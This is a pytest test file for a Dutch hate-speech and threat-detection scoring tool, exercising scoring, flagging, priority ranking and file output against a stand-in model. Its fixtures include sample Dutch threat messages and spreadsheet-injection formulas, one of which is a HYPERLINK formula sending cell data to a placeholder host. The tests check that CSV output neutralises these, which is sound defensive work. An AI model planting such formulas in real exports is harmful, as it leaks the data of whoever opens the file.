"""score_frame, score_file and flag_threats against a small stand-in model.

The stand-in has the shipped classifier's interface (``classes_``,
``version``, ``threat_threshold_``, ``predict_proba``, ``rule_hits``,
``explain``) and keyword rules simple enough that every expected value below
can be worked out by hand. The real model is exercised in
``tests/integration/test_score_cli.py``.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from hatewatch.errors import DataError, OutputExistsError
from hatewatch.io import read_table
from hatewatch.scoring import (
    FLAG_COLUMNS,
    SCORE_COLUMNS,
    flag_file,
    flag_threats,
    priority_score,
    score_file,
    score_frame,
    score_store,
)


@dataclass(frozen=True)
class FakeHit:
    rule: str
    description: str
    span: tuple[int, int]
    weight: float
    severity: tuple[str, ...]


@dataclass
class FakeExplanation:
    label: str
    features: list[tuple[str, float]]
    severity: tuple[str, ...] = ()


class FakeModel:
    """hate if 'idioot', threat if 'woont' or 'kogel', else neutral."""

    classes_ = ["hate", "neutral", "threat"]
    version = "fake-0.0.1"
    threat_threshold_ = 0.3

    def __init__(self) -> None:
        self.calls = 0

    def predict_proba(self, texts):
        self.calls += 1
        out = []
        for t in texts:
            assert isinstance(t, str) and t.strip()  # scoring never sends blanks
            if "kogel" in t:
                out.append([0.05, 0.05, 0.9])
            elif "woont" in t:
                out.append([0.1, 0.6, 0.3])  # exactly the threshold
            elif "idioot" in t:
                out.append([0.8, 0.15, 0.05])
            else:
                out.append([0.05, 0.9, 0.05])
        return np.array(out)

    def predict(self, texts):
        return [self.classes_[i] for i in self.predict_proba(texts).argmax(axis=1)]

    def rule_hits(self, texts):
        hits = []
        for t in texts:
            row = []
            i = t.find("waar je woont")
            if i >= 0:
                hit = FakeHit("knows_home", "knows home", (i, i + 13), 1.0, ("home",))
                row.append(hit)
            j = t.find("motie afschieten")
            if j >= 0:  # a negative (exculpatory) rule must not flag
                row.append(FakeHit("metaphor", "metaphor", (j, j + 16), -1.0, ()))
            hits.append(row)
        return hits

    def explain(self, text):
        label = self.predict([text])[0]
        if "kogel" in text:
            feats = [("rule:x", 3.0), ("word:kogel", 2.5), ("word:je", 0.1)]
            return FakeExplanation(label, [*feats, ("word:hallo", -0.3)], ("death",))
        return FakeExplanation(label, [("bigram:je woont", 0.4)])


@pytest.fixture
def model() -> FakeModel:
    return FakeModel()


MESSAGES = pd.DataFrame(
    {
        "id": ["a", "b", "c", "d", "e", "f"],
        "text": [
            "goed debat vandaag",
            "jij bent een idioot",
            "een kogel door je kop",
            "we weten waar je woont",
            None,
            "   ",
        ],
    },
    index=[10, 11, 12, 13, 14, 15],
)


def test_score_frame_adds_columns_and_keeps_input(model):
    before = MESSAGES.copy()
    out = score_frame(MESSAGES, model=model)
    pd.testing.assert_frame_equal(MESSAGES, before)  # input not mutated
    assert list(out.columns) == ["id", "text", *SCORE_COLUMNS]
    assert list(out.index) == list(MESSAGES.index)
    assert out["label"].iloc[:4].tolist() == ["neutral", "hate", "threat", "neutral"]
    assert out.loc[12, "p_threat"] == pytest.approx(0.9)
    assert out.loc[11, "p_hate"] == pytest.approx(0.8)
    assert out.loc[10, "p_neutral"] == pytest.approx(0.9)
    assert (out["model_version"] == "fake-0.0.1").all()


def test_missing_and_blank_texts_get_no_score(model):
    out = score_frame(MESSAGES, model=model)
    assert out["label"].isna().tolist() == [False] * 4 + [True, True]
    assert out[["p_hate", "p_threat", "p_neutral"]].iloc[4:].isna().all().all()
    odd = score_frame(pd.DataFrame({"text": [5, "idioot"]}, dtype=object), model=model)
    assert odd["label"].isna().tolist() == [True, False]  # a number is not a text


def test_score_frame_batches_model_calls(model):
    df = pd.DataFrame({"text": [f"bericht {i}" for i in range(25)]})
    out = score_frame(df, model=model, chunk_size=10)
    assert model.calls == 3 and len(out) == 25


def test_score_frame_missing_column_and_collisions(model):
    with pytest.raises(DataError, match="'body' not found"):
        score_frame(MESSAGES, "body", model=model)
    gold = pd.DataFrame({"text": ["idioot"], "label": ["hate"]})
    out = score_frame(gold, model=model)
    assert out["input_label"].tolist() == ["hate"]  # gold label kept
    assert out["label"].tolist() == ["hate"]


def test_priority_score_formula():
    assert priority_score(1.0, 1.0, ["weapon", "death", "home"]) == 1.0
    assert priority_score(0.9, 1.0, ["weapon", "home"]) == 0.95
    assert priority_score(0.4, 0.0, []) == 0.2
    assert priority_score(0.4, 0.5, ["family"]) == round(0.2 + 0.1 + 0.24, 3)
    # naming a weapon outranks a vague threat at the same probability
    assert priority_score(0.5, 1.0, ["weapon"]) > priority_score(0.5, 1.0, [])


def test_flag_threats_selects_sorts_and_explains(model):
    flagged = flag_threats(MESSAGES, model=model)
    # 'c' by probability, 'd' by rule at p_threat == threshold; blanks skipped.
    # c: 0.5*0.9 + 0.3*1.0 (death) = 0.75; d: 0.5*0.3 + 0.2 + 0.3*0.9 (home)
    assert flagged["id"].tolist() == ["c", "d"]
    assert list(flagged.columns) == ["id", "text", *FLAG_COLUMNS]
    assert list(flagged.index) == [12, 13]
    assert flagged["priority"].tolist() == [0.75, 0.62]
    d = flagged.loc[13]
    assert d["rules"] == "knows_home"
    assert d["severity"] == "home"
    assert "rule knows_home fired on 'waar je woont'" in d["explanation"]
    assert "evidence for 'neutral': bigram:je woont (+0.40)" in d["explanation"]
    c = flagged.loc[12]
    assert c["rules"] == "" and c["label"] == "threat" and c["severity"] == "death"
    assert "evidence for 'threat': word:kogel (+2.50)" in c["explanation"]
    assert "hallo" not in c["explanation"]  # negative features are not named
    assert "rule:x" not in c["explanation"]  # rule features: only if they fired


def test_flag_threshold_and_negative_rules(model):
    df = pd.DataFrame({"text": ["die motie afschieten", "we weten waar je woont"]})
    assert flag_threats(df, model=model, threshold=0.95)["text"].tolist() == [
        "we weten waar je woont"  # the rule still flags it
    ]
    assert flag_threats(df.iloc[:1], model=model).empty


def _write_csv(path: Path) -> None:
    path.write_text(
        "id,text\n"
        "1,goed debat vandaag\n"
        "2,een kogel door je kop\n"
        "3,\n"  # line 4: empty text
        '4,"we weten\nwaar je woont, echt"\n'  # lines 5-6
        "5,te,veel,velden\n"  # line 7
        "6,jij idioot\n",
        encoding="utf-8",
    )


def test_score_file_streams_and_reports_bad_rows(tmp_path, model):
    src, dst = tmp_path / "in.csv", tmp_path / "out.parquet"
    _write_csv(src)
    seen = []
    summary = score_file(src, dst, model=model, chunk_size=2, on_error=seen.append)
    assert [(b.line, b.field) for b in seen] == [(4, "text"), (7, None)]
    assert (summary.rows_read, summary.rows_scored, summary.rows_bad) == (6, 4, 2)
    assert summary.label_counts == {"hate": 1, "neutral": 2, "threat": 1}
    out = read_table(dst)
    assert out["id"].tolist() == ["1", "2", "4", "6"]
    assert list(out.columns) == ["id", "text", *SCORE_COLUMNS]
    assert "scored 4 of 6 rows (2 bad)" in str(summary)


def test_score_file_strict_and_overwrite(tmp_path, model):
    src, dst = tmp_path / "in.csv", tmp_path / "out.jsonl"
    _write_csv(src)
    with pytest.raises(DataError) as info:
        score_file(src, dst, model=model, strict=True)
    assert info.value.line == 4 and info.value.field == "text"
    assert not dst.exists()  # nothing half-written
    dst.write_text("keep me\n")
    with pytest.raises(OutputExistsError):
        score_file(src, dst, model=model)
    assert dst.read_text() == "keep me\n"
    score_file(src, dst, model=model, force=True)
    rows = [json.loads(x) for x in dst.read_text().splitlines()]
    assert [r["label"] for r in rows] == ["neutral", "threat", "neutral", "hate"]


def test_score_file_missing_text_column(tmp_path, model):
    src = tmp_path / "in.jsonl"
    src.write_text('{"body": "hoi"}\n')
    with pytest.raises(DataError, match="'text'"):
        score_file(src, tmp_path / "o.csv", model=model)
    summary = score_file(src, tmp_path / "o.csv", model=model, text_column="body")
    assert summary.rows_scored == 1


def test_flag_file_writes_sorted_rows_with_line_numbers(tmp_path, model):
    src, dst = tmp_path / "in.csv", tmp_path / "flagged.csv"
    _write_csv(src)
    summary = flag_file(src, dst, model=model, chunk_size=1)
    out = read_table(dst)
    assert out["id"].tolist() == ["2", "4"]  # priority 0.75 before 0.62
    assert out["line"].tolist() == ["3", "5"]
    assert summary.rows_flagged == 2 and summary.rows_bad == 2
    assert summary.threshold == 0.3


def test_flag_file_without_flags_writes_header_only(tmp_path, model):
    src, dst = tmp_path / "in.csv", tmp_path / "flagged.csv"
    src.write_text("text\nhallo\n")
    flag_file(src, dst, model=model)
    assert dst.read_text().splitlines() == [",".join(["line", "text", *FLAG_COLUMNS])]


def _store_with_messages(path):
    store_mod = pytest.importorskip("hatewatch.store")
    if not hasattr(store_mod, "Store"):
        pytest.skip("hatewatch.Store is not implemented yet")
    store = store_mod.Store(path)
    rows = [
        ("twitter", "1", "goed debat vandaag"),
        ("twitter", "2", "een kogel door je kop"),
        ("bluesky", "3", "jij idioot"),
        ("bluesky", "4", "   "),  # blank: never scored
        ("bluesky", "5", None),  # purged text: not offered for scoring
    ]
    for platform, mid, text in rows:
        store.con.execute(
            "INSERT INTO messages (platform, message_id, created_at, author_id, text,"
            " collector, collector_version, retrieved_at) VALUES (?, ?,"
            " TIMESTAMP '2026-01-01', 'x', ?, 'test', '0', TIMESTAMP '2026-01-02')",
            [platform, mid, text],
        )
    return store


def test_score_store_scores_only_unscored_messages(tmp_path, model):
    store = _store_with_messages(tmp_path / "s.duckdb")
    summary = score_store(store, model=model, chunk_size=2, progress=False)
    assert (summary.rows_read, summary.rows_scored, summary.rows_bad) == (4, 3, 1)
    got = store.con.execute(
        "SELECT message_id, label, model_version FROM scores ORDER BY message_id"
    ).fetchall()
    assert got == [
        ("1", "neutral", "fake-0.0.1"),
        ("2", "threat", "fake-0.0.1"),
        ("3", "hate", "fake-0.0.1"),
    ]
    again = score_store(store, model=model, progress=False)
    assert again.rows_scored == 0  # nothing left for this model version
    store.close()


def test_score_file_reports_non_text_values_as_bad_rows(tmp_path, model):
    src, dst = tmp_path / "in.jsonl", tmp_path / "out.parquet"
    src.write_text('{"text": "idioot"}\n{"text": 12345}\n{"text": "hoi"}\n')
    seen = []
    summary = score_file(src, dst, model=model, on_error=seen.append)
    assert [(b.line, b.field) for b in seen] == [(2, "text")]
    assert "not text: int" in seen[0].reason
    assert (summary.rows_read, summary.rows_scored, summary.rows_bad) == (3, 2, 1)
    assert read_table(dst)["text"].tolist() == ["idioot", "hoi"]
    with pytest.raises(DataError) as info:
        score_file(src, tmp_path / "o2.csv", model=model, strict=True)
    assert info.value.line == 2
    assert not (tmp_path / "o2.csv").exists()


FORMULAS = [
    '=HYPERLINK("http://x.example/?q="&A1, "een kogel voor jou")',
    "+kogel+1",
    "-2+3 kogel",
    "@SUM(1+1) kogel",
    "\t=1+1 kogel",
]


def test_flagged_csv_neutralises_spreadsheet_formulas(tmp_path, model):
    import csv

    src, dst = tmp_path / "in.csv", tmp_path / "flagged.csv"
    pd.DataFrame(
        {"id": ["=1+2", "b", "c", "d", "e"], "text": FORMULAS, "n": [-1, 2, 3, 4, 5]}
    ).to_csv(src, index=False)
    flag_file(src, dst, model=model)
    with dst.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(FORMULAS)
    assert sorted(r["text"] for r in rows) == sorted("'" + t for t in FORMULAS)
    assert "'=1+2" in {r["id"] for r in rows}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
    # the JSONL and Parquet outputs are data for programs: kept verbatim
    flag_file(src, tmp_path / "flagged.jsonl", model=model)
    assert set(read_table(tmp_path / "flagged.jsonl")["text"]) == set(FORMULAS)


def test_scored_csv_is_machine_data_and_stays_verbatim(tmp_path, model):
    src, dst = tmp_path / "in.csv", tmp_path / "scored.csv"
    pd.DataFrame({"text": FORMULAS}).to_csv(src, index=False)
    score_file(src, dst, model=model)
    assert read_table(dst)["text"].tolist() == FORMULAS


def test_spreadsheet_safe_leaves_numbers_and_plain_text():
    from hatewatch.io import spreadsheet_safe

    df = pd.DataFrame({"x": [-0.5, 1.0], "s": ["-3", "gewoon"], "=kolom": ["+a", None]})
    out = spreadsheet_safe(df)
    assert out["x"].tolist() == [-0.5, 1.0]
    assert out["s"].tolist() == ["'-3", "gewoon"]
    assert list(out.columns) == ["x", "s", "'=kolom"]
    assert out["'=kolom"].tolist()[0] == "'+a" and pd.isna(out["'=kolom"].iloc[1])
    assert df["s"].tolist() == ["-3", "gewoon"]  # input not modified
